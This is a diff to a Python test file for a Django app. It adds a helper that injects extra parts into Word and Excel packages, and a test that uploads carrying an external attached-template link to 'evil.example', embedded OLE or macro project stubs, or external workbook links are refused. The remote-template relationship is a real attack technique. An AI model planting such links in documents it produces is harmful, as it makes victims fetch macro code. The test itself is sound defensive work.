@@ -3,6 +3,7 @@
 import io
 import re
 import subprocess
+import zipfile
 
 import docx
 import openpyxl
@@ -11,6 +12,7 @@ from django.urls import reverse
 
 from sekisho.errors import BadInput, Refused
 from sekisho.server.agreements import actions, annex_excel, annex_word, annexes, queries, rules
+from sekisho.server.agreements.models import AnnexTemplate
 from sekisho.server.crossings.models import JournalEntry
 
 
@@ -152,6 +154,38 @@ def test_only_those_who_may_change_a_template(actor):
         actions.take_template(actor("manager"), name="様式.docx", data=template_docx())
     with pytest.raises(BadInput, match="ひな形に使えるのは"):
         actions.take_template(actor("policy"), name="様式.pdf", data=b"%PDF-1.7")
+
+
+def hostile(data, name, text):
+    """Return the package with one part added."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
+        for one in old.namelist():
+            new.writestr(one, old.read(one))
+        new.writestr(name, text)
+    return out.getvalue()
+
+
+def test_a_template_that_could_do_harm_is_refused_and_the_one_in_use_stays(actor):
+    actions.take_template(actor("policy"), name="様式.docx", data=template_docx())
+    elsewhere = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="r1" Type="x/attachedTemplate" Target="https://evil.example/x.dotm" '
+        'TargetMode="External"/></Relationships>'
+    )
+    for name, data in (
+        ("様式.docx", hostile(template_docx(), "word/_rels/settings2.xml.rels", elsewhere)),
+        ("様式.docx", hostile(template_docx(), "word/embeddings/oleObject1.bin", "x")),
+        ("様式.docx", hostile(template_docx(), "word/vbaProject.bin", "x")),
+        ("様式.xlsx", hostile(template_xlsx(), "xl/externalLinks/externalLink1.xml", "<a/>")),
+        ("様式.xlsx", hostile(template_xlsx(), "xl/vbaProject.bin", "x")),
+        ("様式.xlsx", template_docx()),
+    ):
+        with pytest.raises(BadInput):
+            actions.take_template(actor("policy"), name=name, data=data)
+    assert queries.template_in_use("docx").name == "様式.docx"
+    assert queries.template_in_use("xlsx") is None
+    assert AnnexTemplate.objects.count() == 1
 
 
 def test_the_questionnaires_form_opens_and_its_rows_hold_their_text(actor, asked, pages):
